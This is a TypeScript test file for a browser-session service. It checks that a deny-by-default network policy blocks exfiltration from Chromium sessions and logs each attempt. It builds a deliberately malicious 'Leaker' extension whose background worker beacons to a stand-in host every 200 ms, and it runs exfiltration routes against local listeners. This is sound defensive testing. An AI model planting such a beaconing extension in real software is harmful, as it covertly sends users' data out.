// With a network policy that allows one host, no byte reaches another host: each attempt is refused and recorded.
// Without a policy the attempts arrive, which proves that the tests are effective. Attempts that cannot leave a jail in
// either case are repeated by a Chromium without a jail, in a network namespace of the test, where they must arrive. No
// packet leaves this machine.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Socket } from 'node:net';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import type { Extension } from '../../contract/extensions.ts';
import { CdpClient } from '../harness/cdp.ts';
import { openPages, type Page } from '../harness/pages.ts';
import { type CreatedSession, startServer } from '../harness/server.ts';
import { listEvents } from '../harness/session-events.ts';
import { eventually } from '../harness/until.ts';
import { uploadRequest } from '../harness/upload.ts';
import { zip } from '../harness/zip.ts';
import { LEAVING_ROUTES, type Route, type RouteContext, SCRIPTS, STAYING_ROUTES } from './exfiltration-routes.ts';

const EXTENSION_ATTEMPT = 'an extension';
/** How long the test waits for bytes that must not arrive, after all other bytes have arrived. */
const SETTLE_MS = 1_000;
const OUTSIDE_TIMEOUT_MS = 300_000;

const names = [...Object.keys(LEAVING_ROUTES), ...Object.keys(STAYING_ROUTES), EXTENSION_ATTEMPT];
const hostOf = (name: string): string => `x${names.indexOf(name)}.b.test`;
const nameOf = (host: string): string => names[Number(/^x(\d+)\./.exec(host)?.[1])] ?? host;

/**
 * The name of each attempt for which a byte arrived, found by the host name in the request or in the TLS ClientHello.
 */
const arrivedNames = new Set<string>();
let datagramCount = 0;

const tcp = createServer((socket: Socket) => {
  socket.on('error', () => {});
  socket.on('data', bytes => {
    for (const [host] of bytes.toString('latin1').matchAll(/x\d+\.b\.test/g)) arrivedNames.add(nameOf(host));
    socket.end('HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n');
  });
}).listen(0, '127.0.0.1');
await once(tcp, 'listening');
const address = tcp.address();
const port = typeof address === 'object' && address ? address.port : 0;
const udp = createSocket('udp4', () => {
  datagramCount += 1;
}).bind(port, '127.0.0.1');
await once(udp, 'listening');
after(() => {
  tcp.close();
  udp.close();
});

const serveScript =
  (source: string): Page =>
  (_, response) =>
    void response.writeHead(200, { 'content-type': 'text/javascript' }).end(source);
const queryValue = (url = '', name = 'to'): string => new URL(url, 'http://x').searchParams.get(name) ?? '/';
const pages = await openPages({
  ...Object.fromEntries(Object.entries(SCRIPTS).map(([path, source]) => [path, serveScript(source)])),
  '/go': (request, response) => void response.writeHead(302, { location: queryValue(request.url) }).end(),
  '/refresh': (request, response) =>
    void response
      .writeHead(200, { 'content-type': 'text/html' })
      .end(`<!doctype html><meta http-equiv="refresh" content="0;url=${queryValue(request.url)}">`),
});

const server = await startServer({
  env: {
    BERTH_EGRESS_ALLOW: `127.0.0.1/32:${pages.port},127.0.0.1/32:${port}`,
    BERTH_EGRESS_HOSTS: names.map(name => `${hostOf(name)}=127.0.0.1`).join(),
    BERTH_WARM: '1',
  },
});

const manifest = {
  manifest_version: 3,
  name: 'Leaker',
  version: '1.0',
  background: { service_worker: 'worker.js' },
  host_permissions: ['<all_urls>'],
};
const leakScript = `setInterval(() => fetch('http://${hostOf(EXTENSION_ATTEMPT)}:${port}/').catch(() => {}), 200)`;
const archive = zip([
  { name: 'manifest.json', bytes: JSON.stringify(manifest) },
  { name: 'worker.js', bytes: leakScript },
]);
const uploadResponse = await server.api<Extension>('POST', '/v1/browsers/extensions', {
  ...(await uploadRequest('leaker.zip', archive)),
});

async function attempt(client: CdpClient, name: string, route: Route): Promise<void> {
  const { targetId } = await client.send('Target.createTarget', { url: pages.url });
  const { sessionId } = await client.send('Target.attachToTarget', { targetId, flatten: true });
  const page = String(sessionId);
  await client.waitForValue('the page to be there', 'document.title', page, title => title === 'Home');
  const context: RouteContext = {
    send: (method, params) => client.send(method, params, page),
    sendBrowser: (method, params) => client.send(method, params),
    on: listener =>
      client.onMessage(({ method, params, sessionId }) => {
        if (method && sessionId === page) listener(method, params ?? {});
      }),
    home: pages.url,
    host: hostOf(name),
    port,
  };
  // The gateway or Chromium may refuse the attempt.
  await route(context).catch(() => {});
}

/**
 * Makes all attempts. The client stays connected during the checks, because some attempts end when the client
 * disconnects.
 */
async function attemptAll(session: CreatedSession, check: () => Promise<unknown>): Promise<void> {
  const client = await CdpClient.connect(session.connectUrl);
  for (const [name, route] of Object.entries({ ...LEAVING_ROUTES, ...STAYING_ROUTES }))
    await attempt(client, name, route);
  await check();
  await new Promise(resolve => setTimeout(resolve, SETTLE_MS));
  await client.close();
}

const missingNames = (seen: ReadonlySet<string>): string[] =>
  [...Object.keys(LEAVING_ROUTES), EXTENSION_ATTEMPT].filter(name => !seen.has(name));

test('with one allowed host name, no byte is delivered to other hosts, and each attempt is recorded', async () => {
  const networkPolicy = { default: 'deny', allow: ['127.0.0.1'] };
  const session = await server.createSession({
    keepAlive: true,
    extensionIds: [uploadResponse.body.id],
    browserSettings: { networkPolicy },
  });
  const readRefusedNames = async (): Promise<ReadonlySet<string>> => {
    const events = await listEvents(server, session.id, 'network.refused');
    return new Set(events.map(({ detail }) => nameOf(String(detail.hostname))));
  };
  await attemptAll(session, () =>
    eventually(
      'every attempt to be recorded',
      async () => missingNames(await readRefusedNames()),
      left => left.length === 0,
    ),
  );
  assert.deepEqual([[...arrivedNames], datagramCount], [[], 0]);
  await server.release(session.id);
});

test('without a networkPolicy, attempts to send data to other hosts succeed, except those that a jail blocks', async () => {
  const session = await server.createSession({ keepAlive: true, extensionIds: [uploadResponse.body.id] });
  await attemptAll(session, () =>
    eventually(
      'all attempts to arrive',
      () => missingNames(arrivedNames),
      left => left.length === 0,
    ),
  );
  assert.deepEqual([Object.keys(STAYING_ROUTES).filter(name => arrivedNames.has(name)), datagramCount], [[], 0]);
  await server.release(session.id);
});

test('if Chromium runs without a jail, the attempts that a jail blocks reach other hosts', async () => {
  const outsideFile = fileURLToPath(new URL('exfiltration-outside.ts', import.meta.url));
  const user = process.getuid?.() === 0 ? [] : ['--user', '--map-root-user'];
  const args = [...user, '--net', '--mount', '--pid', '--fork', '--kill-child', '--', process.execPath, outsideFile];
  const { stdout } = await promisify(execFile)('unshare', args, { timeout: OUTSIDE_TIMEOUT_MS, killSignal: 'SIGKILL' });
  assert.deepEqual(JSON.parse(stdout), Object.keys(STAYING_ROUTES).sort());
});
